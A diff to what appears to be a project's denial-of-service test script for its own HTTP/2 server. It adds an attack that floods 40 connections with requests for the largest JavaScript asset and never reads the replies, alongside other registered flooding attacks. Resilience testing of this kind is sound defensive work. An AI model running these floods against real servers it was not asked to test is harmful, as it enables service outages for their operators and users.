@@ -7,6 +7,7 @@ writes a line when the attack stands, and at the end one that tells in JSON how 
 from __future__ import annotations
 
 import json
+import os
 import resource
 import select
 import socket
@@ -18,6 +19,7 @@ from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, suppress
 from dataclasses import dataclass, field
+from pathlib import Path
 
 from hpack import Encoder
 from hyperframe.frame import (
@@ -31,6 +33,7 @@ from hyperframe.frame import (
     WindowUpdateFrame,
 )
 
+ROOT = Path(__file__).resolve().parent.parent.parent
 GET_ACCOUNT = "/gitpod.v1.AccountService/GetAccount"
 GET_SUMMARY = "/gitpod.v1.OrganizationService/GetOrganizationInviteSummary"
 BODY = b'{"inviteId": "00000000-0000-4000-8000-000000000000"}'
@@ -43,9 +46,21 @@ FLOODING = 10
 """How many connections flood at once."""
 
 
+SENT_AHEAD = 65_536
+"""How many bytes are on the way to the server at most (SO_SNDBUF), beside those that it lets wait on its side. Without
+a network between, the system hands over all that a sender has, however much, while the server is still reading."""
+
+NICENESS = 10
+"""How much less of the processor's time attackers have than those whom they attack: theirs is another machine's."""
+
+
 def connect(address: str) -> socket.socket:
     host, port = address.rsplit(":", 1)
-    return socket.create_connection((host, int(port)), timeout=20)
+    connection = socket.socket()
+    connection.settimeout(20)
+    connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SENT_AHEAD)
+    connection.connect((host, int(port)))
+    return connection
 
 
 def post(body: bytes = BODY, length: int | None = None, *headers: str) -> bytes:
@@ -213,6 +228,25 @@ def never_reading(attack: Attack) -> None:
         attack.over.wait()
 
 
+def unread_pages(attack: Attack) -> None:
+    """Ask for the largest file of the pages, 100 times on each of 40 connections, and read none."""
+    largest = max((ROOT / "server/web/static/assets").glob("*.js"), key=lambda path: path.stat().st_size)
+    fields = [(":method", "GET"), (":scheme", "http"), (":path", f"/assets/{largest.name}"), (":authority", "x")]
+    block = Encoder().encode([(name, value, True) for name, value in fields])
+    asked = [HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]) for stream in range(1, 200, 2)]
+    with ExitStack() as stack:
+        for _ in range(40):
+            # When there is no room left, the server may close it.
+            with suppress(OSError):
+                connection = stack.enter_context(connect(attack.address))
+                connection.sendall(opening(65_535) + serialized(*asked))
+                attack.done["requests"] += len(asked)
+                if attack.over.wait(0.1):
+                    return
+        attack.stands()
+        attack.over.wait()
+
+
 def opened_streams(attack: Attack) -> None:
     """Open streams and leave them, 2,000 on each connection."""
     block = header_block()
@@ -278,6 +312,7 @@ ATTACKS: dict[str, Callable[[Attack], None]] = {
         idle_connections,
         hanging_up,
         never_reading,
+        unread_pages,
         opened_streams,
         abandoned_requests,
         reset_streams,
@@ -292,6 +327,7 @@ ATTACKS: dict[str, Callable[[Attack], None]] = {
 
 def main() -> None:
     name, address, *token = sys.argv[1:]
+    os.nice(NICENESS)
     attack = Attack(address, *token)
 
     def wait_for_the_end() -> None:
